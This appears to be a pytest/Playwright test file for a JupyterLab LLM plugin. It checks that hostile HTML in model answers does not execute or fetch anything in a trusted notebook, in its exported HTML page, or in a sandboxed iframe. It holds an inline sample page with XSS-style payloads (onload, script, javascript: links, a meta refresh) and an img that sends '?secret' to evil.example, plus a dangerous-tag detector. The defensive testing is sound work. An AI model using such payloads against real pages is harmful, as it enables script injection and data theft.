"""Answers that try to act, in a trusted notebook in a real browser, and on its exported page."""

from __future__ import annotations

from contextlib import contextmanager

import pytest
from hostile import ATTACKS, IMG
from nbconvert import HTMLExporter
from server import Answer, together

# All that is below an answer, and what of it could act.
_HARM = """(area) => {
  const found = [];
  for (const each of area.querySelectorAll('*')) {
    const name = each.tagName.toLowerCase();
    if (['img', 'script', 'iframe', 'object', 'embed', 'style', 'link', 'form', 'meta', 'base']
        .includes(name)) found.push(each.outerHTML.slice(0, 200));
    for (const { name: key, value } of each.attributes) {
      if (key.startsWith('on')) found.push(`${name} ${key}=${value}`);
      if (key.endsWith('href') && /^\\s*(?!https?:|ftp:|mailto:|#)\\S/.test(value))
        found.push(`${name} ${key}=${value}`);
      if (key === 'style' && value.includes('url(')) found.push(`${name} ${key}=${value}`);
    }
  }
  return found;
}"""
_PAGE = f"""```html
<!DOCTYPE html>
<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refreshed">
<link rel="stylesheet" href="http://evil.example/a.css"><style>h1 {{ color: teal }}</style></head>
<body onload="parent.acted()"><h1>Sales by region</h1>{IMG}
<script>parent.acted()</script><img src="http://evil.example/?secret">
<iframe src="http://evil.example/inner"></iframe><a href="javascript:parent.acted()">more</a>
<table><tr><td>north</td><td>12</td></tr></table></body></html>
```"""


def watch(page) -> list[str]:
    """A list that fills with what a page fetches from elsewhere, or tries to."""
    fetched: list[str] = []

    def note(request):
        # The policy of the frame stops some only on their way; nothing of them is sent.
        if "evil" in request.url and request.failure != "csp":
            fetched.append(request.url)

    page.on("requestfinished", note)
    page.on("requestfailed", note)
    return fetched


@contextmanager
def watched(page):
    """Nothing acts on a page, and nothing of it is fetched from elsewhere, while the block runs."""
    page.evaluate("() => { window.acted = () => { window.hasActed = true } }")
    fetched = watch(page)
    yield
    page.wait_for_timeout(300)  # for what would be fetched a moment later
    assert page.evaluate("() => window.hasActed") is None
    assert fetched == []


@pytest.fixture(scope="module")
def attacked():
    """The notebook of the first test, for the second."""
    return {}


def test_no_attack_acts_in_a_trusted_notebook(lab, provider, attacked):
    provider.plan = [Answer(together(*attack.splitlines(keepends=True))) for attack in ATTACKS]
    half = len(ATTACKS) // 2  # Lab shows no more than fifty outputs of a cell
    loops = [
        f"for _ in range({times}):\n    %mixtral -m 8x7b Attack me."
        for times in (half, len(ATTACKS) - half)
    ]
    lab.open("hostile", *loops)
    with watched(lab.page):
        lab.run(120)
        lab.wait(lab.page.locator("mjx-container").count)
        assert lab.outputs(1).count() + lab.outputs(2).count() == len(ATTACKS)
        for number in (1, 2):
            area = lab.cell(number).locator(".jp-OutputArea").first
            assert area.evaluate(_HARM) == []
            for link in area.locator("a:visible").all():
                link.hover(timeout=2000)
        # They are shown, though: each as the text that it is.
        assert (lab.text(1) + lab.text(2)).count("acted()") > len(ATTACKS) / 2
    attacked["notebook"] = lab.saved()


def test_no_attack_acts_on_the_exported_page(loaded, attacked, tmp_path):
    page_source, _ = HTMLExporter().from_notebook_node(attacked["notebook"])
    file = tmp_path / "hostile.html"
    file.write_text(page_source, "utf-8")
    page = loaded.page.context.browser.new_page()
    fetched = watch(page)
    page.add_init_script("window.acted = () => { window.hasActed = true }")
    page.goto(file.as_uri(), wait_until="domcontentloaded")
    page.wait_for_timeout(500)
    for area in page.locator(".jp-OutputArea").all():
        assert area.evaluate(_HARM) == []
    assert page.locator("body").inner_text().count("acted()") > len(ATTACKS) / 2
    assert page.evaluate("() => window.hasActed") is None
    assert fetched == []
    page.close()


def test_html_is_shown_in_a_frame_in_which_nothing_acts(lab, provider):
    provider.plan = [Answer(together(*_PAGE.splitlines(keepends=True)))]
    lab.open(
        "page", "%%mixtral -m 8x7b -f html -o page\nA page of our sales.", "print(page.finish)"
    )
    with watched(lab.page):
        lab.run()
        frame = lab.cell(1).frame_locator("iframe")
        assert frame.locator("h1").inner_text() == "Sales by region"
        assert frame.locator("td").all_inner_texts() == ["north", "12"]
        colour = frame.locator("h1").evaluate("each => getComputedStyle(each).color")
        assert colour == "rgb(0, 128, 128)"
        frame.locator("a").click()
    assert any("allow-scripts" in each for each in lab.refused)
    assert lab.cell(1).locator("iframe").get_attribute("sandbox") == ""
    assert "tokens · $0.0000" in lab.text(1)
    assert "HTML alone" in provider.received[-1].body["messages"][0]["content"]
    assert lab.text(2) == "stop"
    (saved,) = lab.saved().cells[1].outputs
    assert set(saved.data) == {"text/html", "text/plain"}
